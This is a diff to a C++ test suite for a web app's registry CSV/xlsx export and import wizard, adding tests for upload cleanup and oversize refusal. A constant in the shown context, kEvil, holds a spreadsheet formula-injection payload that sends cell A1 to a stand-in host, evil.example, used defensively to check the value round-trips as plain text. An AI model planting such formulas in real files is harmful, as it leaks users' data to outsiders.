@@ -1,6 +1,7 @@
 // Registry export/import: the round trip through the real writers and readers (export ->
 // import changes nothing, for .xlsx and .csv), and the upload -> preview -> commit wizard
 // through the real server.
+#include <filesystem>
 #include <regex>
 
 #include "core/strings.h"
@@ -19,6 +20,13 @@ const std::string kEvil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click 
 
 class ExchangeHttpTest : public WebTest {
  protected:
+  void SetUp() override {
+    WebTest::SetUp();
+    // Uploads are kept under <data_dir>/uploads: a directory of this test's own.
+    if (app_) app_->config.data_dir = dir_.File("data");
+  }
+  std::string UploadDir() const { return dir_.File("data") + "/uploads"; }
+
   domain::Workspace Ws() {
     auto c = db_->Acquire();
     return **storage::WorkspaceStore(*c).FindBySlug("neo-cycle");
@@ -94,8 +102,8 @@ class ExchangeHttpTest : public WebTest {
   // The commit form of a preview page, as the browser would post it.
   static httplib::Params CommitForm(const std::string& page, bool skip_errors) {
     httplib::Params form;
-    form.emplace("token", Find(page, R"(name="token" value="([0-9a-f]{64})")"));
-    form.emplace("fingerprint", Find(page, R"(name="fingerprint" value="([0-9a-f]{64})")"));
+    form.emplace("token", Find(page, R"re(name="token" value="([0-9a-f]{64})")re"));
+    form.emplace("fingerprint", Find(page, R"re(name="fingerprint" value="([0-9a-f]{64})")re"));
     form.emplace("mapped", "1");
     static const std::regex re(R"re(<input type="hidden" name="(map_[0-9]+)" value="([^"]*)">)re");
     for (auto it = std::sregex_iterator(page.begin(), page.end(), re); it != std::sregex_iterator(); ++it)
@@ -121,8 +129,11 @@ TEST_F(ExchangeHttpTest, ExportedCsvReimportsWithNoChange) {
   // ...and comes back as the text it was.
   ExpectRoundTripChangesNothing("registry.csv", csv);
   auto harmony = All();
-  for (auto& p : harmony)
-    if (p.Get("acronym") == "HARMONY") EXPECT_EQ(p.Get("short_description"), kEvil);
+  for (auto& p : harmony) {
+    if (p.Get("acronym") == "HARMONY") {
+      EXPECT_EQ(p.Get("short_description"), kEvil);
+    }
+  }
 }
 
 TEST_F(ExchangeHttpTest, ExportDownloadsForViewers) {
@@ -213,7 +224,7 @@ TEST_F(ExchangeHttpTest, UploadPreviewCommitWithErrorsIsAllOrNothingThenSkips) {
   EXPECT_NE(pv->body.find("<td class=\"num\">32</td><td>Coordinator country</td>"), std::string::npos) << pv->body;
   EXPECT_NE(pv->body.find("is not a two-letter country code"), std::string::npos);
   EXPECT_NE(pv->body.find("Relevance comment"), std::string::npos);  // the update's changed field
-  EXPECT_NE(pv->body.find("skip the 1 rows with errors"), std::string::npos);
+  EXPECT_NE(pv->body.find("skip the 1 row with errors"), std::string::npos);
   EXPECT_NE(pv->body.find("<select name=\"map_1\""), std::string::npos);
   int64_t before = Count();
 
@@ -237,7 +248,9 @@ TEST_F(ExchangeHttpTest, UploadPreviewCommitWithErrorsIsAllOrNothingThenSkips) {
   EXPECT_NE(report->body.find("<strong>1</strong> created, <strong>1</strong> updated"), std::string::npos)
       << report->body;
   EXPECT_NE(report->body.find("<td class=\"num\">32</td><td>Coordinator country</td>"), std::string::npos);
-  // The upload is gone after the commit.
+  // The upload is gone after the commit (only the import report stays, for 24 hours).
+  for (const auto& f : std::filesystem::directory_iterator(UploadDir()))
+    EXPECT_TRUE(strings::EndsWith(f.path().string(), ".result.json")) << f.path();
   auto again = editor.Post("/w/neo-cycle/import/commit", CommitForm(pv->body, true));
   ASSERT_TRUE(again);
   EXPECT_EQ(again->status, 400);
@@ -255,7 +268,7 @@ TEST_F(ExchangeHttpTest, EditedMappingAndStalePreview) {
   auto csv = editor.Get("/w/neo-cycle/export/registry.csv");
   auto pv = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", csv->body, "r.csv", "text/csv"}});
   ASSERT_TRUE(pv && pv->status == 200);
-  std::string token = Find(pv->body, R"(name="token" value="([0-9a-f]{64})")");
+  std::string token = Find(pv->body, R"re(name="token" value="([0-9a-f]{64})")re");
   ASSERT_EQ(token.size(), 64u);
   // Re-map "Keywords" (column U, index 20) to "not imported", and Topic to Industry field.
   auto remap = editor.Post("/w/neo-cycle/import/preview",
@@ -282,14 +295,34 @@ TEST_F(ExchangeHttpTest, EditedMappingAndStalePreview) {
   EXPECT_NE(other->body.find("no longer available"), std::string::npos);
 }
 
+TEST_F(ExchangeHttpTest, UploadsOlderThanADayAreRemoved) {
+  std::filesystem::create_directories(UploadDir());
+  std::string old_token(64, 'b');
+  std::string old_file = UploadDir() + "/" + old_token + ".bin";
+  WriteFile(old_file, "a,b\r\n");
+  WriteFile(UploadDir() + "/" + old_token + ".json", "{}");
+  auto day_ago = std::filesystem::file_time_type::clock::now() - std::chrono::hours(25);
+  std::filesystem::last_write_time(old_file, day_ago);
+  std::filesystem::last_write_time(UploadDir() + "/" + old_token + ".json", day_ago);
+  WebClient editor = LoggedIn("editor@test");
+  editor.RefreshCsrf("/w/neo-cycle/exchange");
+  auto csv = editor.Get("/w/neo-cycle/export/registry.csv");
+  auto r = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", csv->body, "r.csv", "text/csv"}});
+  ASSERT_TRUE(r && r->status == 200);
+  EXPECT_FALSE(std::filesystem::exists(old_file));
+  std::string token = Find(r->body, R"re(name="token" value="([0-9a-f]{64})")re");
+  EXPECT_TRUE(std::filesystem::exists(UploadDir() + "/" + token + ".bin"));  // the new one stays
+}
+
 TEST_F(ExchangeHttpTest, OversizeAndMistypedUploadsAreRefused) {
   WebClient editor = LoggedIn("editor@test");
   editor.RefreshCsrf("/w/neo-cycle/exchange");
   std::string big(imp::kMaxUploadBytes + 1024, 'a');
   auto r = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", big, "big.csv", "text/csv"}});
   ASSERT_TRUE(r);
-  EXPECT_EQ(r->status, 413);
-  EXPECT_NE(r->body.find("at most 20 MB"), std::string::npos);
+  EXPECT_EQ(r->status, 400);  // see kTooLargeStatus in exchange.cc
+  EXPECT_NE(r->body.find("at most 20 MB"), std::string::npos) << r->body;
+  EXPECT_NE(r->body.find("type=\"file\""), std::string::npos);  // the form to try again
 
   r = editor.PostMultipart("/w/neo-cycle/import/preview",
                            {{"file", "this is not a workbook", "fake.xlsx", "application/octet-stream"}});
